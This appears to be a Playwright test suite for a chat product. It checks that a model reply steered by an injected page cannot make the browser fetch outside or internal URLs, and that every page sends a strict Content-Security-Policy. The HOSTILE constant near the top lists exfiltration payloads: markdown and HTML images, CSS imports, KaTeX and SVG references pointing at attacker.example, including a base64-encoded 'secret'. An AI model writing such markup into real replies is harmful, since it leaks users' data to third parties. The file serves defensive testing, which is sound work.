import type { Page } from 'playwright-core';

import { streamsText } from '../vendors/openai-server.ts';
import { ask, browser, product, signUp, useProduct, visit, visitSignedIn } from './product.ts';

/** Everything that a page which the model read could have it write. */
const HOSTILE = [
  'Words first.',
  '![a](/api/site-icon?host=secret.attacker.example) ![b](/api/site-icon?id=c2VjcmV0.a.b.c) ' +
    '![c](/api/image?u=https://e.org&s=y)',
  '![d](/api/auth/logout) ![e](/sandbox) ![f](/share/x) ![g](https://attacker.example/x.png) ' +
    '![h](//attacker.example/x.png)',
  '<img src="/sandbox"><link rel="prefetch" href="/sandbox">',
  '<style>@import url(/sandbox);@font-face{font-family:x;src:url(/sandbox)}</style>',
  '[link](https://attacker.example) [![i](/sandbox)](https://attacker.example)',
  '$$\\includegraphics{/sandbox} \\href{/sandbox}{a} \\url{/sandbox} \\htmlStyle{background:url(/sandbox)}{b}$$',
  '```html\n<img src="/sandbox">\n```\n\n```svg\n<svg><image href="/sandbox"/></svg>\n```',
  '[j]: /sandbox\n\n![k][j]',
  'Words last.',
].join('\n\n');

useProduct(streamsText(HOSTILE));

/** What a page asks for by itself, beside its own files and the calls that it always makes. */
const watched = (page: Page) => {
  const asked: string[] = [];
  page.on('request', (request) => {
    const { origin, pathname, protocol } = new URL(request.url());
    if (['data:', 'blob:'].includes(protocol)) return;
    const isImage =
      request.resourceType() === 'image' && !pathname.startsWith('/icons/') && pathname !== '/favicon.svg';
    const isNamed = /sandbox|site-icon|api\/image|logout|^\/share\/x/.test(pathname);
    if (origin !== product.url || isImage || isNamed) asked.push(request.url());
  });
  return asked;
};

test('a hostile reply asks for nothing: in a chat, a document, on paper and as a shared page', async () => {
  const { page, context, faults } = await visitSignedIn(browser, product.url);
  const asked = watched(page);
  await ask(page, 'What stands there?');
  const answer = page.getByTestId('message-assistant');
  await answer.getByText('Words last.').waitFor();
  await answer.locator('.katex, .katex-error').first().waitFor();
  expect(await answer.getByRole('link', { name: /load from/ }).count()).toBeGreaterThan(6);
  await page.getByRole('button', { name: 'Open in document view' }).click();
  await page.getByTestId('document-view').getByText('Words last.').waitFor();
  await page.getByRole('button', { name: 'Back to chat' }).click();

  const menu = page.locator('main').getByRole('button', { name: /^More for/ });
  await page.evaluate(() => {
    window.print = () => {
      document.title = 'printed';
    };
  });
  await menu.click();
  await page.getByRole('menuitem', { name: 'Print or save as PDF' }).click();
  await page.waitForFunction(() => document.title === 'printed');
  await page.emulateMedia({ media: 'print' });
  expect(await page.getByTestId('print-sheet').innerText()).toContain('Words last.');
  await page.emulateMedia({ media: 'screen' });
  await page.evaluate(() => window.dispatchEvent(new Event('afterprint')));

  await menu.click();
  await page.getByRole('menuitem', { name: 'Share…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Share conversation' });
  await dialog.getByRole('button', { name: 'Create link' }).click();
  const address = (await dialog.getByRole('link').getAttribute('href')) ?? '';
  const reader = await visit(browser, product.url);
  await reader.page.goto('about:blank');
  const read = watched(reader.page);
  await reader.page.goto(address);
  await reader.page.getByText('Words last.').first().waitFor();
  await reader.page.locator('.katex, .katex-error').first().waitFor();
  await Promise.all([page, reader.page].map((each) => each.waitForLoadState('networkidle')));
  expect([asked, read]).toEqual([[], []]);
  expect([faults, reader.faults]).toEqual([[], []]);
  await Promise.all([context.close(), reader.context.close()]);
}, 90_000);

const POLICY = [
  "script-src 'self'",
  "img-src 'self' data: blob:",
  "object-src 'none'",
  "base-uri 'none'",
  "frame-ancestors 'none'",
];

test('every page says what it may load, and whose frame it may be in', async () => {
  const paths = ['/', '/share/unknown', '/share.html', '/sandbox', '/identity', '/api/docs', '/healthz', '/nothing'];
  const policyOf = async (path: string) =>
    (await fetch(product.url + path)).headers.get('content-security-policy') ?? '';
  const policies = await Promise.all(paths.map(policyOf));
  expect(policies.map((policy) => POLICY.filter((part) => !policy.includes(part)))).toEqual(paths.map(() => []));
});

test('a visitor with a trial who signs in and goes on at once is answered in the account', async () => {
  const { page, context, faults } = await visit(browser, product.url);
  await ask(page, 'The first question');
  await page.getByTestId('message-assistant').getByText('Words last.').waitFor();
  const sent: { messages: { content: string }[] }[] = [];
  page.on('request', (request) => {
    if (request.url().endsWith('/api/ai/groq')) sent.push(request.postDataJSON());
  });
  // Each moment of the way into the account is held still in
  // test/web/session/migrate-trial.test.tsx; here it just goes on.
  await signUp(page);
  await ask(page, 'The second question');
  await page.getByTestId('message-user').filter({ hasText: 'The second question' }).waitFor();
  await page.getByTestId('message-assistant').last().getByText('Words last.').waitFor();
  expect(sent.map(({ messages }) => messages.at(-1)?.content)).toEqual(['The second question']);
  expect(faults).toEqual([]);
  await context.close();
}, 90_000);
